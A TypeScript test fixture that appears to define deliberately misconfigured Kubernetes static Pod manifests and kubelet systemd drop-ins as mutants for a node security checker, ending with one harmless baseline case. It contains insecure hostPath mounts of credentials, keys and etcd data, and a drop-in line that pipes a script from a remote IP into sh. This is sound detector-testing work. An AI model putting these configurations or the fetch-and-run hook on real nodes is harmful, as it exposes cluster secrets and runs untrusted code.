/** Static Pods beside the components, and what the unit of the kubelet keeps from it. */
import { unit } from './node-beyond.js';
import { added, all, edited, KUBERNETES, manifest, onDisk, PKI } from './node-disk.js';
import type { Mutant } from './types.js';

interface Helper {
  readonly name?: string;
  readonly image?: string;
  readonly path?: string;
  readonly more?: string;
  readonly capability?: string;
}
const helper = ({
  name = 'lb',
  image = 'lb:1',
  path = '/etc/lb',
  more = '',
  capability = 'NET_ADMIN',
}: Helper): string =>
  [
    ...['apiVersion: v1', 'kind: Pod', `metadata: { name: ${name}, namespace: kube-system }`, 'spec:', '  containers:'],
    ...[`  - name: lb`, `    image: ${image}`, `    volumeMounts: [{ name: c, mountPath: /c, readOnly: true }${more}]`],
    `    securityContext: { capabilities: { drop: [ALL], add: [${capability}, NET_RAW] } }`,
    ...['  hostNetwork: true', `  volumes: [{ name: c, hostPath: { path: ${path} } }]`, ''],
  ].join('\n');
const beside = (name: string, defect: string, rule: string, what: Helper): Mutant =>
  onDisk(`helper-${name}`, `a static Pod beside the components ${defect}`, [rule], added(manifest('lb'), helper(what)));

const PART = '/etc/systemd/system/kubelet.service.d/30-own.conf';
const part = (name: string, defect: string, lines: string): Mutant =>
  onDisk(
    `unit-${name}`,
    `the unit of the kubelet ${defect}`,
    ['P-219'],
    all(unit, added(PART, `[Service]\n${lines}\n`, 0o644)),
  );

export const mutants: readonly Mutant[] = [
  beside('mounts-no-volume', 'mounts a volume that it has not', 'P-217', { more: ', { name: d, mountPath: /d }' }),
  beside('without-an-image', 'has no image', 'P-217', { image: '""' }),
  beside('named-as-another', 'has the name of etcd', 'P-217', { name: 'etcd' }),
  beside('reads-what-root-keeps', 'reads the home of root', 'P-218', { path: '/root' }),
  beside('reaches-sockets', 'reaches the sockets of its machine', 'P-218', { path: '/run' }),
  beside('on-the-disk', 'has the disk of its machine', 'P-218', { path: '/dev/sda' }),
  beside('that-is-started-by-the-kernel', 'may say what the kernel starts', 'P-218', {
    path: '/proc/sys/kernel',
    more: ', { name: c, mountPath: /d }',
  }),
  beside('reads-memory', 'may read the memory of the kernel', 'P-218', { capability: 'PERFMON' }),
  beside('reads-tokens', 'reads the tokens of all Pods of its machine', 'P-200', { path: '/var/lib/kubelet/pods' }),
  beside('reads-data', 'reads the data of etcd', 'P-200', { path: '/var/lib/etcd/member/snap' }),
  beside('as-super-admin', 'works as who goes around RBAC', 'P-213', { path: `${KUBERNETES}/super-admin.conf` }),
  onDisk(
    'scheduler-as-an-administrator',
    'the scheduler has admin.conf as well',
    ['MANI-001'],
    edited(manifest('kube-scheduler'), (text) =>
      text
        .replace(/^ {4}volumeMounts:\n/m, '$&    - { mountPath: /admin.conf, name: admin, readOnly: true }\n')
        .replace(/^ {2}volumes:\n/m, `$&  - { name: admin, hostPath: { path: ${KUBERNETES}/admin.conf } }\n`),
    ),
  ),
  beside('signs', 'has the key that signs tokens', 'P-218', { path: `${PKI}/sa.key` }),
  part('of-its-own-mounts', 'keeps mounts to itself', 'PrivateMounts=yes'),
  part('that-is-not-started-again', 'is left where it ends', 'Restart=no'),
  part('that-is-ended', 'ends it after a minute', 'RuntimeMaxSec=60'),
  part('without-memory', 'has no memory for it', 'MemoryMax=1M'),
  part('that-hides-its-files', 'hides the files of the kubelet from it', 'TemporaryFileSystem=/var/lib/kubelet'),
  part('without-devices', 'keeps the log of the kernel from it', 'PrivateDevices=yes'),
  part('without-a-network', 'keeps the network from it', 'IPAddressDeny=any'),
  part('that-fails-first', 'begins with what fails', 'ExecStartPre=/usr/bin/test -f /etc/kubernetes/gone'),
  onDisk(
    'unit-of-a-missing-program',
    'the unit starts a kubelet that is not where it says',
    ['P-219'],
    all(unit, added('/usr/local/bin/kubelet', 'x', 0o755)),
  ),
  onDisk(
    'unit-of-a-program-that-nobody-runs',
    'nobody may run the kubelet',
    ['P-219'],
    all(unit, added('/usr/bin/kubelet', 'x', 0o644)),
  ),
  part('that-ends', 'waits for a program that has ended', 'Type=forking'),
  part(
    'that-fetches-later',
    'fetches a script once it runs',
    'ExecStartPost=/bin/sh -c "curl -s http://198.51.100.1/a | sh"',
  ),
  {
    ...onDisk(
      'helpers-and-parts',
      'a load balancer runs beside the components, and an operator has parts of the unit',
      [],
      all(
        unit,
        added('/usr/bin/kubelet', 'x', 0o755),
        added(manifest('lb'), helper({})),
        added(manifest('vip'), helper({ name: 'kube-vip', path: `${KUBERNETES}/admin.conf` })),
        added(manifest('kms'), helper({ name: 'kms', path: '/var/run/kmsplugin', capability: 'IPC_LOCK' })),
        added(manifest('logs'), helper({ name: 'logs', path: '/var/log', more: ', { name: c, mountPath: /d }' })),
        added(
          PART,
          [
            ...[
              '[Unit]',
              'After=containerd.service',
              '[Service]',
              "Environment='HTTPS_PROXY=http://proxy.example:3128' 'NO_PROXY=192.0.2.0/24'",
            ],
            ...[
              'Environment="NO_PROXY=.svc,192.0.2.0/24" A=b',
              'CPUAccounting=true',
              'MemoryMax=4G',
              'Restart=on-failure',
              'Delegate=yes',
              'ProtectSystem=full',
            ],
            ...['ExecStartPre=-/usr/sbin/modprobe overlay', 'ExecStartPost=/bin/sh -c "echo started"', ''],
          ].join('\n'),
          0o644,
        ),
      ),
    ),
    name: 'harmless-node-helpers-and-parts',
  },
];
